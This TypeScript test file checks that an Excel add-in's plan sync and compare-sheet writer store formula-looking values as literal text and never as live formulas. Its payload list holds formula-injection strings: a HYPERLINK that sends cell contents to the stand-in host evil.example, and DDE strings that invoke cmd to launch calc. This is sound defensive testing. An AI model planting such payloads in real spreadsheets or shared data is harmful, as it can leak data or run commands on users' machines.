/**
 * Formula injection through sync: an editor (or anyone who can write a plan) stores values that
 * Excel would run as formulas. Another editor's add-in pulls them; written into Excel through the
 * add-in's adapter they must stay the same text, never become formulas.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COMPARE_SHEET, compareSheet } from '../../addin/compare/compare-sheet';
import { createOfficeAdapter } from '../../addin/excel/office-adapter';
import type { CompareResponse } from '../../shared/sync';
import { SyncClient, type SyncState } from '../../addin/sync';
import { FakeWorkbook } from '../support/fake-excel';
import { callApi, planPath } from '../reliability/support/api';
import { startWorld, type World } from './support/world';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the board pack")',
  '=cmd|\' /C calc\'!A0',
  '+44 121 301 0000',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '=1+1',
];

let world: World;
beforeAll(async () => {
  world = await startWorld();
});
afterAll(async () => {
  await world?.stop();
});

describe('formula injection through sync', () => {
  it('pulls formula-looking values as the exact text, and the adapter writes them into Excel as text', async () => {
    // Editor A stores the payloads (as the service must allow: they are just text in a plan).
    const rowId = `evil-${randomUUID().slice(0, 8)}`;
    const pushed = await callApi(world.service.baseUrl, world.tokens.rxtEditor, 'POST', `${planPath(world.rxtPlan)}/push`, {
      pushId: randomUUID(),
      changes: PAYLOADS.map((value, i) => ({ id: `${rowId}-${i}`, base: {}, set: { action: value, lead: value } })),
    });
    expect(pushed.status).toBe(200);

    // Editor B's add-in pulls them.
    let saved: SyncState | null = null;
    const client = new SyncClient({
      planUrl: `${world.service.baseUrl}${planPath(world.rxtPlan)}`,
      tokens: { getToken: async () => world.tokens.rxtEditor },
      store: { read: async () => saved, write: async (state) => void (saved = structuredClone(state)) },
    });
    await client.load();
    const { updates } = await client.pull([]);
    const pulled = updates.filter((u) => u.id.startsWith(rowId) && u.field === 'action');
    expect(pulled.map((u) => u.value).sort()).toEqual([...PAYLOADS].sort());

    // Written into the plan's Action column (rows 5…) through the add-in's Office adapter.
    const book = new FakeWorkbook(['Plan']);
    const adapter = createOfficeAdapter(book.excel as never);
    const cells = pulled.map((u, i) => ({ row: 5 + i, value: u.value }));
    await adapter.writeColumn('B', cells);
    for (const [i, cell] of cells.entries()) {
      const written = book.activeSheet.peek(4 + i, 1);
      expect(written?.value, cell.value).toBe(cell.value);
      expect(written?.numberFormat, cell.value).toBe('@');
    }
  });

  it('writes pulled formula-looking text into a new sheet (the region/Issues sheets) as text', async () => {
    const book = new FakeWorkbook(['Plan']);
    const adapter = createOfficeAdapter(book.excel as never);
    await adapter.writeSheet('Region', [['Trust', 'Lead'], ...PAYLOADS.map((p) => [p, p])]);
    const sheet = book.sheets.find((s) => s.name === 'Region')!;
    PAYLOADS.forEach((payload, i) => {
      expect(sheet.peek(i + 1, 0)?.value).toBe(payload);
      expect(sheet.peek(i + 1, 1)?.value).toBe(payload);
    });
  });

  it('returns a trust named like a formula verbatim in the region compare (the add-in writes it as text)', async () => {
    const evilName = '=HYPERLINK("http://evil.example","Trust")';
    const put = await callApi(world.service.baseUrl, world.tokens.admin, 'PUT', '/v1/trusts/ZZ7', { name: evilName, region: 'Y60' });
    expect(put.status, JSON.stringify(put.body)).toBeLessThan(300);
    const compare = await callApi<CompareResponse>(
      world.service.baseUrl, world.tokens.midlandsLead, 'GET', '/v1/regions/Y60/compare?standard=WRES&period=2023-24',
    );
    expect(compare.status).toBe(200);
    const name = compare.body.trusts.find((t) => t.trust === 'ZZ7')?.name;
    expect(name).toBe(evilName);
    // Laid out and written exactly as the pane's Compare region writes the compare sheet.
    const book = new FakeWorkbook(['Plan']);
    await createOfficeAdapter(book.excel as never).writeReport(COMPARE_SHEET, compareSheet(compare.body));
    const sheet = book.sheets.find((s) => s.name === COMPARE_SHEET)!;
    const cells = [...sheet.cells.values()].filter((c) => c.value === evilName);
    expect(cells.length).toBeGreaterThanOrEqual(2); // the matrix and the chart's category label
    for (const cell of cells) expect(cell.numberFormat).toBe('@');
  });
});
